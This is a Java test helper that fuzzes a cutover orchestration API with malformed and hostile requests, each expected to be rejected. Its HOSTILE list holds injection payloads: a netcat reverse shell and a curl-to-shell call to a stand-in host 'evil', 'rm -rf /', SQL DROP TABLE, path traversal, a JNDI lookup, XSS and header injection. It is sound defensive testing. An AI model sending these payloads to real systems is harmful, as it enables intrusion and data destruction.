package com.maclogin.cutover.orchestrator.it;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Generates malformed and hostile requests for every endpoint, deterministically from a seed. Each request is built to
 * be refused: at least one part of it is invalid (a field, a type, the body, the content type, a header, a query
 * parameter, the id, the method), so every answer must be a 4xx problem.
 */
final class HostileRequests {

    record Req(String kind, String method, String path, Map<String, String> headers, byte[] body) {
        @Override
        public String toString() {
            String b = body == null ? "" : new String(body, 0, Math.min(body.length, 160), StandardCharsets.UTF_8);
            return kind + " " + method + " " + path + " " + headers.keySet() + " " + b.replace('\n', ' ');
        }
    }

    static final ObjectMapper JSON = new ObjectMapper();
    static final String LEASE = "hk-file-1"; // registered from the leases file: bodies must be refused for other reasons
    static final String UNKNOWN_CUTOVER = "00000000-0000-4000-8000-000000000000";

    /** Every value here is outside every allow-list of the API (labels, versions, ids, hosts, keys, zones). */
    static final List<String> HOSTILE = List.of(
            "2026.9.6;rm -rf /", "$(reboot)", "`id`", "a|nc -e /bin/sh evil 1", "x && curl evil|sh", "x > /etc/passwd",
            "'; DROP TABLE cutover; --", "\"quoted\"", "back\\slash", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
            "..\\..\\windows\\win.ini", "\u202Eexe.txt", "hk-\u202E1-tsil", "nul\u0000byte", "zero\u200Bwidth",
            "\uFF12\uFF10\uFF12\uFF16.\uFF19.\uFF16", "\u0662\u0660\u0662\u0666.9.6", "hk-\u0430pi-1", "\uD83D\uDCA5boom",
            "line\nbreak", "tab\tin", "\r\nX-Injected: 1", "${jndi:ldap://evil/a}", "%s%s%s%n", "<script>alert(1)</script>",
            "-rf", "--help", "\u00ADsoft", "A".repeat(10_000), "9".repeat(5000), " ", "\u0007bell");
    static final List<Object> WRONG_TYPES_FOR_STRINGS = List.of(List.of(1, 2), Map.of("a", "b"), List.of(), Map.of(),
            List.of(Map.of("x", List.of())));
    static final List<Object> WRONG_NUMBERS = List.of("not-a-number", "12abc", List.of(5), Map.of("n", 5), -1, 0,
            Long.MAX_VALUE, "1e999", 1.0e300, "NaN", "-Infinity", 999_999_999);
    static final List<String> BAD_KEYS = List.of("key with space", "k".repeat(200), "k;DROP", "k/../..", "k$(id)",
            "k|x", "k\"q", "k<x>", "k%00", "k{}", "k=v", "k,v");
    static final List<String> BAD_CONTENT_TYPES = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=xyz", "image/png", "text/html");

    private final Random random;
    private final String operatorToken;

    HostileRequests(long seed, String operatorToken) {
        this.random = new Random(seed);
        this.operatorToken = operatorToken;
    }

    List<Req> generate(int n) {
        List<Req> out = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            out.add(next(i));
        }
        return out;
    }

    private Req next(int i) {
        return switch (i % 13) {
            case 0, 1, 2 -> cutoverPost();
            case 3, 4 -> leasePost();
            case 5 -> action();
            case 6 -> cutoverGetById();
            case 7 -> cutoverList();
            case 8 -> probeResults();
            case 9 -> audit();
            case 10 -> leaseGet();
            case 11 -> wrongMethod();
            default -> rawBody(random.nextBoolean() ? "/api/v1/cutovers" : "/api/v1/leases");
        };
    }

    private <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    private Map<String, String> headers() {
        Map<String, String> h = new LinkedHashMap<>();
        h.put("Authorization", "Bearer " + operatorToken);
        h.put("Content-Type", "application/json");
        return h;
    }

    static Map<String, Object> validCutover() {
        Map<String, Object> b = new LinkedHashMap<>();
        b.put("leaseId", LEASE);
        b.put("candidateVersion", "2026.9.6");
        b.put("ticketId", "CHG-4711");
        List<Object> ops = new ArrayList<>();
        ops.add(new LinkedHashMap<>(Map.of("name", "ada", "timeZone", "Asia/Hong_Kong", "rollbackOwner", true)));
        ops.add(new LinkedHashMap<>(Map.of("name", "grace", "timeZone", "America/New_York", "rollbackOwner", false)));
        b.put("operators", ops);
        b.put("blastRadius", new LinkedHashMap<>(Map.of("channels", new ArrayList<>(List.of("#ops-hk")),
                "models", new ArrayList<>(List.of("claude-sonnet")), "cronSchedules", new ArrayList<>(List.of("0 9 * * 1-5")))));
        return b;
    }

    static Map<String, Object> validLease(int i) {
        Map<String, Object> b = new LinkedHashMap<>();
        b.put("id", "hk-fuzz-" + i);
        b.put("region", "HK");
        b.put("host", "10.0.0.9");
        b.put("sshPort", 22);
        b.put("sshUser", "openclaw");
        b.put("hostKey", Fixtures.HOST_KEY);
        b.put("gatewayPort", 18789);
        return b;
    }

    @SuppressWarnings("unchecked")
    private Req cutoverPost() {
        Map<String, Object> b = validCutover();
        Map<String, String> h = headers();
        int m = random.nextInt(16);
        String what;
        switch (m) {
            case 0 -> { what = "hostile top-level string"; b.put(pick(List.of("leaseId", "candidateVersion", "ticketId")), pick(HOSTILE)); }
            case 1 -> { what = "hostile operator field"; ((Map<String, Object>) ((List<Object>) b.get("operators")).get(random.nextInt(2)))
                    .put(pick(List.of("name", "timeZone")), pick(HOSTILE)); }
            case 2 -> { what = "hostile label"; ((List<Object>) ((Map<String, Object>) b.get("blastRadius"))
                    .get(pick(List.of("channels", "models", "cronSchedules")))).add(pick(HOSTILE)); }
            case 3 -> {
                what = "wrong type";
                String field = pick(List.of("leaseId", "candidateVersion", "ticketId", "operators", "blastRadius",
                        "validation", "thresholds", "triggerActions", "overrides"));
                Object wrong = switch (field) {
                    case "leaseId", "candidateVersion", "ticketId", "operators" -> pick(WRONG_TYPES_FOR_STRINGS);
                    case "overrides" -> pick(List.of(Map.of(), Map.of("field", "x"), "text", 7));
                    default -> pick(List.of(List.of(1, 2), List.of(), List.of(Map.of()), "text", 7)); // objects given as non-objects
                };
                b.put(field, wrong);
            }
            case 4 -> { what = "missing field"; b.remove(pick(List.of("leaseId", "candidateVersion", "ticketId", "operators", "blastRadius"))); }
            case 5 -> { what = "rollbackOwner not boolean"; ((Map<String, Object>) ((List<Object>) b.get("operators")).get(0))
                    .put("rollbackOwner", pick(List.of("maybe", "yes please", List.of(true), Map.of("v", true)))); }
            case 6 -> { what = "bad validation"; b.put("validation", Map.of(pick(List.of("windowSeconds", "probeIntervalSeconds")),
                    pick(List.of(0, -5, 1, 100_000_000, "soon", List.of(1), Map.of("s", 1))))); }
            case 7 -> { what = "looser or bad threshold"; b.put("thresholds", Map.of(pick(List.of("crashCount", "errorRatePercent",
                    "latencyMultiplier", "minSamples")), pick(List.of(50, 99.5, -1, "NaN", "many", List.of(), 1e308)))); }
            case 8 -> { what = "bad trigger action"; b.put("triggerActions", random.nextBoolean()
                    ? Map.of("CRASH_LOOP", pick(HOSTILE)) : Map.of(pick(HOSTILE), "PAUSE")); }
            case 9 -> { what = "bad override"; b.put("overrides", List.of(Map.of("field", pick(HOSTILE), "value", "1",
                    "reason", "x", "approvedBy", "grace"))); }
            case 10 -> { what = "bad Idempotency-Key"; h.put("Idempotency-Key", pick(BAD_KEYS)); }
            case 11 -> { what = "bad X-Operator"; h.put("X-Operator", pick(List.of("$(id)", "a;b", "../x", "<b>", "k".repeat(200)))); }
            case 12 -> { what = "wrong content type"; h.put("Content-Type", pick(BAD_CONTENT_TYPES)); }
            case 13 -> { what = "too many operators"; List<Object> ops = new ArrayList<>();
                for (int i = 0; i < 25; i++) {
                    ops.add(Map.of("name", "op" + i, "timeZone", "Asia/Tokyo", "rollbackOwner", i == 0));
                }
                b.put("operators", ops); }
            case 14 -> { what = "unregistered or hostile lease"; b.put("leaseId", pick(List.of("hk-nowhere-" + random.nextInt(1000),
                    "HK-FILE-1", "hk_file_1", "x"))); }
            default -> { what = "override for another value"; b.put("thresholds", Map.of("crashCount", 9));
                b.put("overrides", List.of(Map.of("field", "thresholds.crashCount", "value", 8, "reason", pick(HOSTILE.subList(0, 5))))); }
        }
        return new Req("cutover:" + what, "POST", "/api/v1/cutovers", h, json(b));
    }

    private Req leasePost() {
        Map<String, Object> b = validLease(random.nextInt(1_000_000));
        Map<String, String> h = headers();
        String field = pick(List.of("id", "region", "host", "sshPort", "sshUser", "hostKey", "gatewayPort", "tlsEndpoint",
                "probeUser"));
        int m = random.nextInt(5);
        String what;
        if (m == 0 || m == 1) {
            what = "hostile " + field;
            b.put(field, pick(HOSTILE));
        } else if (m == 2) {
            what = "wrong type " + field;
            b.put(field, field.endsWith("Port") ? pick(WRONG_NUMBERS.subList(0, 4)) : pick(WRONG_TYPES_FOR_STRINGS));
        } else if (m == 3) {
            what = "missing " + field;
            b.remove(field.equals("tlsEndpoint") || field.equals("probeUser") ? "host" : field);
        } else {
            what = "bad tlsEndpoint/port";
            if (random.nextBoolean()) {
                b.put("tlsEndpoint", pick(List.of("gw.example.com", "gw.example.com:0", "gw.example.com:70000", ":443",
                        "gw example:443", "gw.example.com:44a", "[::1]:443")));
            } else {
                b.put(pick(List.of("sshPort", "gatewayPort")), pick(List.of(0, -22, 65536, 1_000_000)));
            }
        }
        return new Req("lease:" + what, "POST", "/api/v1/leases", h, json(b));
    }

    private Req action() {
        String action = pick(List.of("rollback", "abort", "pause", "resume"));
        Map<String, String> h = headers();
        int m = random.nextInt(5);
        String id;
        Object body;
        if (m == 0) {
            id = hostileId();
            body = Map.of("reason", "fine reason");
        } else if (m == 1) {
            id = UNKNOWN_CUTOVER;
            body = pick(List.of(Map.of("reason", pick(HOSTILE)), Map.of("reason", "x".repeat(600)), Map.of(),
                    Map.of("reason", List.of("a")), Map.of("requestedBy", pick(HOSTILE), "reason", "ok")));
        } else if (m == 2) {
            id = UNKNOWN_CUTOVER;
            body = Map.of("reason", "valid reason for a cutover that does not exist");
        } else if (m == 3) {
            id = UNKNOWN_CUTOVER;
            h.put("Content-Type", pick(BAD_CONTENT_TYPES));
            body = Map.of("reason", "x");
        } else {
            return rawBody("/api/v1/cutovers/" + UNKNOWN_CUTOVER + "/" + action);
        }
        String path = "/api/v1/cutovers/" + enc(id) + "/" + action;
        return new Req("action:" + action, "POST", path, h, json(body));
    }

    private String hostileId() {
        String id = pick(List.of(pick(HOSTILE), "..", "...", "%00", "\u0000", "a/b", "x".repeat(300),
                UNKNOWN_CUTOVER.replace('0', '\uFF10'), "hk-file-1\u202E", "null", "undefined", "-1"));
        return id.isBlank() || id.equals(".") ? "%20" : id;
    }

    private Req cutoverGetById() {
        String id = random.nextInt(4) == 0 ? UNKNOWN_CUTOVER : hostileId();
        return new Req("get-cutover", "GET", "/api/v1/cutovers/" + enc(id), headers(), null);
    }

    private Req cutoverList() {
        String param = pick(List.of("state", "lease", "limit"));
        Object v = switch (param) {
            case "state" -> pick(List.of(pick(HOSTILE.stream().filter(x -> !x.isBlank()).toList()), "GREENISH", "0", "PAUSED;", "ACTIVE"));
            case "lease" -> pick(HOSTILE.stream().filter(x -> !x.isBlank()).toList());
            default -> pick(List.of("-1", "0", "501", "abc", "1e3", "99999999999999999999", "1;2", "\u0661\u0660"));
        };
        return new Req("list:" + param, "GET", "/api/v1/cutovers?" + param + "=" + enc(String.valueOf(v)), headers(), null);
    }

    private Req probeResults() {
        boolean badLayer = random.nextBoolean();
        String q = badLayer ? "layer=" + enc(pick(List.of(pick(HOSTILE.stream().filter(x -> !x.isBlank()).toList()), "TLSX", "proc", "1")))
                : "limit=" + enc(pick(List.of("0", "-3", "501", "many", "\uFF15")));
        String id = random.nextInt(3) == 0 ? hostileId() : UNKNOWN_CUTOVER;
        return new Req("probe-results", "GET", "/api/v1/cutovers/" + enc(id) + "/probe-results?" + q, headers(), null);
    }

    private Req audit() {
        String id = random.nextInt(3) == 0 ? UNKNOWN_CUTOVER : hostileId();
        return new Req("audit", "GET", "/api/v1/cutovers/" + enc(id) + "/audit", headers(), null);
    }

    private Req leaseGet() {
        String id = random.nextInt(4) == 0 ? "hk-nowhere-" + random.nextInt(100) : hostileId();
        return new Req("get-lease", "GET", "/api/v1/leases/" + enc(id), headers(), null);
    }

    private Req wrongMethod() {
        String path = pick(List.of("/api/v1/leases", "/api/v1/cutovers", "/api/v1/cutovers/" + UNKNOWN_CUTOVER,
                "/api/v1/leases/hk-file-1", "/api/v1/cutovers/" + UNKNOWN_CUTOVER + "/audit", "/api/v1/nothing/here",
                "/api/v2/cutovers", "/api/v1/cutovers/" + UNKNOWN_CUTOVER + "/explode"));
        String method = path.contains("nothing") || path.contains("v2") || path.contains("explode")
                ? pick(List.of("GET", "POST", "PUT", "DELETE", "PATCH")) : pick(List.of("PUT", "DELETE", "PATCH"));
        if (path.endsWith("hk-file-1") || path.endsWith("/audit") || path.endsWith(UNKNOWN_CUTOVER)) {
            method = pick(List.of("PUT", "DELETE", "PATCH")); // GET would be fine; POST to {id} is not a route either
        }
        return new Req("method:" + method, method, path, headers(), method.equals("GET") ? null : json(Map.of("a", 1)));
    }

    private Req rawBody(String path) {
        Map<String, String> h = headers();
        int m = random.nextInt(12);
        byte[] body;
        String what;
        switch (m) {
            case 0 -> { what = "nested arrays"; body = ("[".repeat(1500 + random.nextInt(3000)) + "]".repeat(10)).getBytes(StandardCharsets.UTF_8); }
            case 1 -> { what = "nested objects"; int d = 600 + random.nextInt(1500);
                body = ("{\"leaseId\":".repeat(d) + "1" + "}".repeat(d)).getBytes(StandardCharsets.UTF_8); }
            case 2 -> { what = "invalid utf-8"; body = concat("{\"leaseId\":\"hk-".getBytes(StandardCharsets.UTF_8),
                    new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE}, "\"}".getBytes(StandardCharsets.UTF_8)); }
            case 3 -> { what = "truncated"; String full = new String(json(validCutover()), StandardCharsets.UTF_8);
                body = full.substring(0, 1 + random.nextInt(full.length() - 2)).getBytes(StandardCharsets.UTF_8); }
            case 4 -> { what = "empty"; body = new byte[0]; }
            case 5 -> { what = "not an object"; body = pick(List.of("null", "[]", "\"str\"", "42", "true", "[{}]"))
                    .getBytes(StandardCharsets.UTF_8); }
            case 6 -> { what = "oversize"; body = ("{\"reason\":\"" + "x".repeat(66_000 + random.nextInt(100_000)) + "\"}")
                    .getBytes(StandardCharsets.UTF_8); }
            case 7 -> { what = "NUL bytes"; body = "{\"leaseId\":\"hk\u0000\",\u0000}".getBytes(StandardCharsets.UTF_8); }
            case 8 -> { what = "duplicate garbage"; body = "{\"leaseId\":\"a\",,\"x\":}".getBytes(StandardCharsets.UTF_8); }
            case 9 -> { what = "comments and single quotes"; body = "{/*c*/'leaseId':'hk-file-1'}".getBytes(StandardCharsets.UTF_8); }
            case 10 -> { what = "huge number"; body = ("{\"sshPort\":" + "9".repeat(2000) + ",\"reason\":1e99999}")
                    .getBytes(StandardCharsets.UTF_8); }
            default -> { what = "utf-16 body"; body = "{\"leaseId\":\"hk-file-1\"}".getBytes(StandardCharsets.UTF_16); }
        }
        return new Req("raw:" + what, "POST", path, h, body);
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static byte[] json(Object o) {
        try {
            return JSON.writeValueAsBytes(o);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static Map<String, Object> copy(Map<String, Object> m) {
        return new HashMap<>(m);
    }
}
